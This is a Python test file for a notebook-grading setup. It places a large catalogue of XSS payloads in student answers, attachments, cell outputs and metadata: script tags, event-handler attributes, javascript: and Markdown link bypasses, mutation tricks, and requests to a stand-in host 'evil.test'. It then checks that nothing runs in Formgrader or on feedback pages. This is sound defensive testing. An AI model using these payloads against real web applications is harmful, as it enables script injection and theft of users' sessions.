"""What a student may write against whoever looks at it: in Formgrader and in feedback, in a real browser, nothing runs.

Each payload stands in a written answer, in a text cell of the student's own, and in what a cell showed.
"""
import base64
import contextlib
import copy
import html
import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.request

import nbformat
import pytest
from nbconvert import HTMLExporter
from nbconvert.filters.markdown_mistune import InvalidNotebook, IPythonRenderer, MarkdownWithMath
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbgrader.api import Gradebook
from nbgrader.preprocessors import SaveAutoGrades
from test_lab import CHROMIUM, QUIET, ROOT, sync_api

from recsys_utils.grading.course import prefer_this_environment, read_notebook
from recsys_utils.grading.feedback_page import feedback_for
from recsys_utils.grading.formgrader import clean_html, markdown2html
from recsys_utils.grading.gradebook import gradebook_url
from recsys_utils.grading.gradebook_cells import make_gradebook
from recsys_utils.grading.pages import harmless
from recsys_utils.grading.release import release

pytestmark = pytest.mark.long
LESSON, EVIL = "01_questions", "http://evil.test"
RED = base64.b64encode(bytes.fromhex(  # a picture of one red pixel
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc000000301010018dd8db0"
    "0000000049454e44ae426082")).decode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><image href="{EVIL}/s.png"/><script>RUN</script></svg>'

# RUN becomes a line of JavaScript that notes the payload's number; EVIL is a host that no page may ask
PAYLOADS = {
    "script": "<script>RUN</script>",
    "script in pieces": "<scr<script></script>ipt>RUN</scr<script></script>ipt>",
    "script, odd case and slash": "<ScRiPt/x>RUN</sCrIpT >",
    "img onerror": "<img src=x onerror=RUN>",
    "img onerror, not closed": "x <img src=x onerror=RUN //",
    "img onerror in a table": "| a |\n|---|\n| <img src=x onerror=RUN> |",
    "img onerror in a quote": "> <img src=x onerror=RUN>",
    "img onerror in a heading": "# <img src=x onerror=RUN>",
    "svg onload": "<svg onload=RUN></svg>",
    "svg animate": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "svg with a style": "<svg><style><img src=x onerror=RUN></style></svg>",
    "body onload": "<body onload=RUN>",
    "iframe srcdoc": "<iframe srcdoc=\"<script>RUN</script>\"></iframe>",
    "iframe javascript": "<iframe src=\"javascript:RUN\"></iframe>",
    "object with data": "<object data=\"data:text/html,<script>RUN</script>\"></object>",
    "object from afar": "<object data=EVIL/o></object>",
    "embed": "<embed src=EVIL/e>",
    "input autofocus": "<input autofocus onfocus=RUN>",
    "textarea autofocus": "<textarea autofocus onfocus=RUN></textarea>",
    "focus on any tag": "<b tabindex=1 autofocus onfocus=RUN>x</b>",
    "form": "<form action=javascript:RUN><button>x</button></form>",
    "form from afar": "<form action=EVIL/f><input name=q><button>x</button></form>",
    "button formaction": "<form><button formaction=javascript:RUN>x</button></form>",
    "details ontoggle": "<details open ontoggle=RUN><summary>x</summary>y</details>",
    "video": "<video><source onerror=RUN></video>",
    "video poster": "<video poster=EVIL/v></video>",
    "audio": "<audio src=x onerror=RUN></audio>",
    "style import": "<style>@import 'EVIL/i.css';</style>",
    "style attribute": "<div style=\"background:url(EVIL/b.png);position:fixed;inset:0\">x</div>",
    "animation": "<style>@keyframes k{}</style><b style=\"animation:k 1s\" onanimationstart=RUN>x</b>",
    "link stylesheet": "<link rel=stylesheet href=EVIL/l.css>",
    "meta refresh": "<meta http-equiv=refresh content=\"0;url=EVIL/m\">",
    "base": "<base href=EVIL/>\n<img src=x>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=RUN>\"></noscript>",
    "title": "<title><a title=\"</title><img src=x onerror=RUN>\"></title>",
    "template": "<template><img src=x onerror=RUN></template><div><template shadowrootmode=open><img src=x onerror=RUN>"
                "</template></div>",
    "math and style": "<math><mtext><table><mglyph><style><!--</style>"
                      "<img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">",
    "math and a form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "math link": "<math><mi href=javascript:RUN>x</mi></math>",
    "comment": "<!--><img src=x onerror=RUN>-->",
    "comment, ended oddly": "<!-- --!><img src=x onerror=RUN>-->",
    "cdata": "<svg><![CDATA[><img src=x onerror=RUN>]]></svg><![CDATA[<img src=x onerror=RUN>]]>",
    "processing instruction": "<?x ><img src=x onerror=RUN>?>",
    "plain link": "<a href=javascript:RUN>x</a>",
    "link with a newline": "<a href=\"java\nscript:RUN\">x</a>",
    "link with a control sign": "<a href=\"\x01javascript:RUN\">x</a>",
    "link of svg": "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>",
    "area": "<map name=m><area shape=default href=javascript:RUN></map><img usemap=#m src=x>",
    "Markdown link": "[x](javascript:RUN)",
    "Markdown link, case": "[x](JaVaScRiPt:RUN)",
    "Markdown link, entity": "[x](&#106;avascript:RUN)",
    "Markdown link, named entities": "[x](java&Tab;script&colon;RUN)",
    "Markdown link, escaped": "[x](javascript\\:RUN)",
    "Markdown link in angles": "[x](<java\tscript:RUN>)",
    "Markdown link, next line": "[x](\njavascript:RUN)",
    "Markdown reference": "[x][r]\n\n[r]: javascript:RUN",
    "Markdown reference, next line": "[y]\n\n[y]:\n  <javascript:RUN>",
    "Markdown autolink": "<javascript:RUN>",
    "autolink with attributes": "<p>\n<https://x/onfocus=RUN/autofocus/tabindex=1>\n</p>",
    "link to data": "[x](data:text/html,<script>RUN</script>)",
    "link with a title": "[x](https://doi.org '\" autofocus tabindex=1 onfocus=RUN x=\"')",
    "picture with a text": "![\" onerror=RUN x=\"](attachment:ok.png)",
    "picture from afar": "![x](EVIL/p.png)",
    "picture without a scheme": "![x](//evil.test/p.png)",
    "picture by reference": "![x][p]\n\n[p]: EVIL/p.png",
    "two marks": "!![x](EVIL/p2.png)",
    "srcset": "<img srcset=EVIL/p3.png>",
    "table background": "<table background=EVIL/t.png><tr><td background=EVIL/u.png>x</table>",
    "fenced mermaid": "```mermaid\n</pre><img src=x onerror=RUN>\n```",
    "fence with a language": "```\"onclick=RUN><img src=x onerror=RUN>\nx\n```",
    "picture that is svg": "![x](attachment:bad.svg)",
    "attachment's name": "![x](attachment:\"onerror=\"RUN.png)",
    "attachment's content": "![x](attachment:quote.png)",
    "formula with text": "$\\text{<img src=x onerror=RUN>}$",
    "formula with a link": "$\\href{javascript:RUN}{x}$ $$\\href{javascript:RUN}{x}$$",
    "formula with a style": "$\\style{background:url(EVIL/y.png)}{x}$",
    "environment": "\\begin{align}<img src=x onerror=RUN>\\end{align}",
    "formula in a text for a picture": "![$x\" onerror=RUN y$](attachment:ok.png)",
    "the page's own buttons": "</div></div></div><div class='panel nbgrader_cell'>"
                              "<button class='full-credit'>x</button>",
    "another cell's name": "# q3\n<input class=score id=q3>",
    "a mark of ours": "<a title=\"\ue0000\ue001\">$\\text{\" onfocus=RUN autofocus tabindex=1 }$</a>",
}
ATTACHMENTS = {
    "ok.png": {"image/png": RED}, "bad.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
    "\"onerror=\"RUN.png": {"image/png": RED}, "quote.png": {"image/png": "x\" onerror=\"RUN\" y=\""},
}
HARMLESS = """A **bold** $x_i^2$ word, `List[int]`, i < j

![my picture](attachment:ok.png)

| a | b |
|---|---|
| 1 | 2 |"""

# a click on each link and button of the student's, and the names of what no cell may hold
PROBE = """regions => {
  const inside = [...document.querySelectorAll(regions)], found = [];
  const bad = "script, iframe, object, embed, form, input, textarea, button, select, link, meta, base, style, svg, " +
    "video, audio, template, title, noscript, [id]:not(.output_javascript), [name], .nbgrader_cell, .full-credit";
  for (const region of inside) {
    for (const one of region.querySelectorAll(bad)) found.push(one.outerHTML.slice(0, 200));
    for (const one of region.querySelectorAll("*")) {
      for (const { name, value } of one.attributes)
        if (name.startsWith("on") || name == "style" && !/^((text-align|color): ?[\\w(), ]+;?)?$/.test(value))
          found.push(one.outerHTML.slice(0, 200));
      if (one.tagName == "A" && one.hasAttribute("href") && !/^(https?|mailto):|^#/.test(one.getAttribute("href")))
        found.push(one.outerHTML.slice(0, 200));
    }
    for (const one of region.querySelectorAll("details")) one.open = true;
    for (const one of region.querySelectorAll("a, area, mi, button, summary, [onclick], [tabindex]")) {
      one.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
      if (one.focus) one.focus();
    }
  }
  return [inside.length, found];
}"""


def armed(text, number):
    return text.replace("EVIL", EVIL).replace("RUN", f"top.RAN.push({number})")


def lesson():
    """Returns a solution that asks as many questions for a person as there are payloads, and one more."""
    info = {"grade": True, "solution": True, "locked": False, "task": False, "points": 1, "schema_version": 3}
    cells = [new_markdown_cell("The answer.", metadata={"nbgrader": info | {"grade_id": f"q{number}"}})
             for number in range(len(PAYLOADS) + 1)]
    return new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "Python 3"}})


def shown(text, number):
    """Returns a cell of code whose outputs show a text in all ways that there are, metadata included."""
    kinds = ("text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "text/vnd.mermaid")
    run = armed("RUN", number)
    outputs = [new_output("display_data", {kind: text}) for kind in kinds]
    outputs += [
        new_output("display_data", {"text/html": text}, metadata={"text/html": {"isolated": True}}),
        new_output("display_data", {"application/javascript": run}),
        new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": text}}),
        new_output("display_data", {"image/png": f'x" onerror="{run}" y="'}),
        new_output("display_data", {"image/png": RED}, metadata={
            "image/png": {"width": f"1 onload={run}", "alt": text}, "filenames": {"image/png": f"{EVIL}/f.png"}}),
        new_output("execute_result", {"text/plain": f"\x1b[38;2;1;2;3m{text}\x1b[\"><img src=x onerror={run}>m"}),
        new_output("stream", text=text, name="stdout"), new_output("stream", text=text, name="stderr"),
        new_output("error", ename=text, evalue=text, traceback=[text, f"\x1b[31m{text}"]),
    ]
    cell = new_code_cell(f"# {text}", outputs=outputs)
    cell.metadata = nbformat.from_dict({"tags": ["x nbgrader_cell", text], "language": text})
    cell.execution_count = f"<img src=x onerror={run}>"
    return cell


def attack(released):
    """Returns the lesson as a student hands it in who attacks with all payloads, in all places."""
    notebook, own = copy.deepcopy(released), []
    for number, (cell, payload) in enumerate(zip(notebook.cells, PAYLOADS.values(), strict=False)):
        text = armed(payload, number)
        attachments = {armed(name, number): {kind: armed(value, number) for kind, value in kinds.items()}
                       for name, kinds in ATTACHMENTS.items()}
        cell.source, cell.attachments = text, attachments
        own += [new_markdown_cell(text, attachments=attachments), shown(text, number)]
    notebook.cells[-1].source, notebook.cells[-1].attachments = HARMLESS, ATTACHMENTS
    notebook.cells += [*own, new_code_cell("y", outputs=[new_output("display_data", {"text/latex": "$y_j^3$"})])]
    notebook.cells[0]["id"] = '"><img src=x onerror=top.RAN.push(0)>'
    notebook.metadata |= {"title": "</title><script>top.RAN.push(0)</script>", "widgets": {"x": PAYLOADS["script"]}}
    return notebook


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """Returns a course in which the attacker's notebook has been graded, and the notebook as it was handed in."""
    root = tmp_path_factory.mktemp("course")
    prefer_this_environment()
    shutil.copy(ROOT / "nbgrader_config.py", root)
    (root / "solutions" / LESSON).mkdir(parents=True)
    nbformat.write(lesson(), root / "solutions" / LESSON / f"{LESSON}.ipynb")
    release(root)
    make_gradebook(root)
    released = read_notebook(root / "lessons" / LESSON / f"{LESSON}.ipynb")
    (root / "autograded" / "eve" / LESSON).mkdir(parents=True)
    graded = harmless(attack(released), released)
    nbformat.write(graded, root / "autograded" / "eve" / LESSON / f"{LESSON}.ipynb")
    with Gradebook(gradebook_url(root)) as book:
        book.update_or_create_student("eve")
        book.update_or_create_submission(LESSON, "eve")
    names = {"notebook": LESSON, "assignment": LESSON, "student": "eve", "db_url": gradebook_url(root)}
    SaveAutoGrades().preprocess(copy.deepcopy(graded), {"nbgrader": names})
    with Gradebook(gradebook_url(root)) as book:
        book.find_comment("q1", LESSON, LESSON, "eve").manual_comment = "**well** <b>said</b>, i < j"
        book.db.commit()
    return root, attack(released)


@pytest.fixture(scope="module")
def server(course):
    """Returns the address of the attacker's page in Formgrader, of the server that `make formgrader` starts."""
    root, _ = course
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    command = [sys.executable, "-m", "jupyter", "lab", "--no-browser", "--allow-root", f"--ServerApp.port={port}",
               "--IdentityProvider.token="]
    process = subprocess.Popen(command, cwd=root, env=os.environ | {"JUPYTER_CONFIG_DIR": str(root / "config")},
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    for _ in range(120):
        with contextlib.suppress(OSError):
            urllib.request.urlopen(f"http://127.0.0.1:{port}/api", timeout=5)
            break
        time.sleep(0.5)
    with Gradebook(gradebook_url(root)) as book:
        name = book.find_submission_notebook(LESSON, LESSON, "eve").id
    yield f"http://127.0.0.1:{port}/formgrader/submissions/{name}/"
    process.terminate()
    process.wait(30)


@pytest.fixture(scope="module")
def browser():
    if CHROMIUM is None:
        pytest.skip("no Chromium on this machine")
    with sync_api.sync_playwright() as player:
        browser = player.chromium.launch(executable_path=CHROMIUM, args=QUIET)
        yield browser
        browser.close()


class Visit:
    """A page as somebody looks at it who clicks at everything: what ran, who was asked, what stands in it."""

    def __init__(self, browser, regions, address=None, content=None):
        self.asked, self.told, page = [], [], browser.new_page(viewport={"width": 1200, "height": 1600})
        self.page, self.clicked = page, False
        page.on("dialog", lambda dialog: (self.told.append(dialog.message), dialog.dismiss()))
        page.on("popup", lambda popup: self.told.append("popup"))
        page.add_init_script("top.RAN = top.RAN || []")
        page.route("**/*", self.answer)
        page.goto(address) if address else page.set_content(content)
        page.wait_for_timeout(300)
        self.before = page.url
        self.regions, self.found = page.evaluate(PROBE, regions)
        page.wait_for_timeout(300)
        self.ran = page.evaluate("top.RAN")

    def answer(self, route):
        """Lets a page ask its own server only; a link that leads elsewhere leads nowhere."""
        own = route.request.url.startswith(("http://127.0.0.1", "file:", "data:"))
        if not own and not route.request.url.startswith(("https://cdnjs.", "https://doi.org", "http://x/", "https://x/")):
            self.asked.append(route.request.url)
        route.continue_() if own else route.fulfill(status=204)

    def bites(self):
        """Returns what a payload achieved, in words; empty where it achieved nothing."""
        asked = [url for url in self.asked if not url.startswith(EVIL) or not self.is_link(url)]
        return {what for what in (*map(str, self.ran), *self.told, *asked)} | set(self.found)

    def is_link(self, url):
        """Returns whether only the click on a link, plain to see, asked for an address."""
        return bool(self.page.evaluate("url => [...document.links].some(one => one.href == url)", url))


def test_the_payloads_bite_where_nobody_cleans(browser):
    attachments, frames = {"ok.png": {"image/png": RED}, "bad.svg": ATTACHMENTS["bad.svg"]}, []
    for number, payload in enumerate(PAYLOADS.values()):
        renderer = IPythonRenderer(escape=False, attachments=attachments)
        with contextlib.suppress(InvalidNotebook):  # an attachment that is not there
            body = f"<!doctype html><div>{MarkdownWithMath(renderer).render(armed(payload, number))}</div>"
            frames.append(f'<iframe name="f{number}" srcdoc="{html.escape(body)}"></iframe>')
    visit, found = Visit(browser, "body", content="".join(frames)), set()
    for number in range(len(PAYLOADS)):
        with contextlib.suppress(sync_api.Error, AttributeError):  # it went elsewhere, or has no frame
            found |= {number} if visit.page.frame(name=f"f{number}").evaluate(PROBE, "body")[1] else set()
    visit.page.wait_for_timeout(500)
    ran = set(visit.page.evaluate("top.RAN"))
    assert len(ran) >= 35 and len(set(visit.asked)) >= 10 and len(found | ran) >= 55


def test_nothing_runs_in_feedback(browser, course):
    root, _ = course
    feedback_for(root, "eve", LESSON)
    page = root / "feedback" / "eve" / LESSON / f"{LESSON}.html"
    assert 'http-equiv="Content-Security-Policy"' in page.read_text(encoding="utf-8")
    bare = page.with_name("without_policy.html")  # what stands in it is harmless without the browser's help, too
    bare.write_text(page.read_text(encoding="utf-8").replace("Content-Security-Policy", "x"), encoding="utf-8")
    for path in (page, bare):
        visit = Visit(browser, ".cell, .comment", address=path.as_uri())
        assert visit.regions > 3 * len(PAYLOADS)
        assert visit.bites() == set()
        assert drawn(visit.page) == [1, True, True]
        assert visit.page.locator(".comment").inner_text().split("\n", 1)[1].strip() == "well <b>said</b>, i < j"
    if folder := os.environ.get("SCREENSHOTS"):
        visit.page.screenshot(path=f"{folder}/feedback.png", full_page=True)


def test_nothing_runs_in_formgrader(browser, server):
    visit = Visit(browser, ".text_cell_render, .output_wrapper", address=server)
    assert visit.regions >= 3 * len(PAYLOADS)
    assert visit.bites() == set()
    assert visit.page.url.startswith(visit.before)
    assert drawn(visit.page) == [1, True, True]
    assert visit.page.locator(".nbgrader_cell").count() == len(PAYLOADS) + 1
    assert visit.page.locator("[id=q3]").count() == 1
    if folder := os.environ.get("SCREENSHOTS"):
        visit.page.screenshot(path=f"{folder}/formgrader.png", full_page=True)


def test_each_layer_is_enough_alone(browser, course, tmp_path):
    root, raw = course
    graded = read_notebook(root / "autograded" / "eve" / LESSON / f"{LESSON}.ipynb")
    stock = HTMLExporter(template_name="classic", exclude_anchor_links=True)
    ours = HTMLExporter(template_name="classic", sanitize_html=True,
                        filters={"markdown2html": markdown2html, "clean_html": clean_html})
    raw = copy.deepcopy(raw)  # metadata is the first layer's business alone
    raw.metadata = {}
    raw.cells[0]["id"] = "c0"
    for cell in raw.cells:
        cell.metadata = nbformat.from_dict({})
        if cell.cell_type == "code":
            cell.execution_count = None
            cell.outputs = [one for one in cell.outputs if not one.get("metadata")]
    for name, exporter, notebook in (("first", stock, graded), ("second", ours, raw)):
        body, _ = exporter.from_notebook_node(notebook)
        (tmp_path / f"{name}.html").write_text(body, encoding="utf-8")
        visit = Visit(browser, ".text_cell_render, .output_wrapper", address=(tmp_path / f"{name}.html").as_uri())
        assert visit.bites() == set(), name


def drawn(page):
    """Returns [how wide the harmless picture is, whether a table is drawn, whether formulas of text and cell are]."""
    return page.evaluate("""() => [
      [...document.images].find(one => one.alt == "my picture")?.naturalWidth,
      [...document.querySelectorAll("td")].some(one => one.textContent == "2" && one.offsetWidth > 0),
      ["x", "y"].every(name => [...document.querySelectorAll("math msubsup")].some(
        one => one.textContent.startsWith(name) && one.getBoundingClientRect().width > 0))]""")
